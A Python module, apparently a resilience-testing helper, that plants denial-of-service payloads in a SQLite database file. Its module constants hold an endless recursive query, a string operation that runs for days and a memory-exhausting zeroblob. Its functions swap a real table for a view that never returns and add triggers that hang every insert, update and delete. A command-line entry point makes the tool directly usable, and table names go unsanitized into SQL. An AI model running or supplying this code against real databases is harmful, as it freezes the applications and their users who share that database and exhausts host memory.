"""What somebody who may write a SQLite database can put into it, so that what others ask there does not end."""

from __future__ import annotations

import sqlite3
import sys
from contextlib import closing
from pathlib import Path

_NUMBERS = "WITH RECURSIVE r(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM r)"
SEARCH = _NUMBERS + " SELECT {} FROM r WHERE x < 0"  # noqa: S608
"""Works without end, and finds nothing."""
ROWS = _NUMBERS + " SELECT {} FROM r"  # noqa: S608
"""Finds one row after the other."""
STEP = (
    "SELECT {} FROM (SELECT 1 AS x) "
    "WHERE replace(printf('%.*c', 90000000, 'a'), printf('%.*c', 40000000, 'a') || 'b', '') = 1"
)
"""Works for days within one function, of which nobody can tell SQLite to end."""
LARGE = "SELECT {} FROM (SELECT 1 AS x) WHERE length(hex(zeroblob(400000000))) = 1"
"""Makes a value that takes most of a machine's memory."""
MUCH = "printf('%.*c', 1000000, 'a')"
"""A value of which a machine can hold many, and not any number."""
_CHANGES = ("INSERT", "UPDATE", "DELETE")


def put_view(path: str | Path, table: str, query: str = SEARCH, value: str = "abs(x)") -> None:
    """Put a view in the place of a table; each column is a value of `x`."""
    with closing(sqlite3.connect(path, isolation_level=None)) as connection:
        columns = [row[1] for row in connection.execute(f"PRAGMA table_info({table})")]
        connection.execute("PRAGMA legacy_alter_table=ON")
        connection.execute(f"ALTER TABLE {table} RENAME TO former_{table}")
        selected = ", ".join(f"{value} AS {column}" for column in columns)
        connection.execute(f"CREATE VIEW {table} AS {query.format(selected)}")


def put_triggers(path: str | Path, table: str, query: str = SEARCH) -> None:
    """Have every change of a table work at a query first."""
    with closing(sqlite3.connect(path, isolation_level=None, timeout=60)) as connection:
        for change in _CHANGES:
            asked = f"SELECT max(y) FROM ({query.format('x AS y')})"  # noqa: S608
            connection.execute(f"CREATE TRIGGER endless_{table}_{change} BEFORE {change} ON {table} BEGIN {asked}; END")


def take_away(path: str | Path, table: str) -> None:
    """Take the triggers of a table away again."""
    with closing(sqlite3.connect(path, isolation_level=None, timeout=300)) as connection:
        for change in _CHANGES:
            connection.execute(f"DROP TRIGGER endless_{table}_{change}")


if __name__ == "__main__":
    {"view": put_view, "triggers": put_triggers}[sys.argv[1]](*sys.argv[2:])
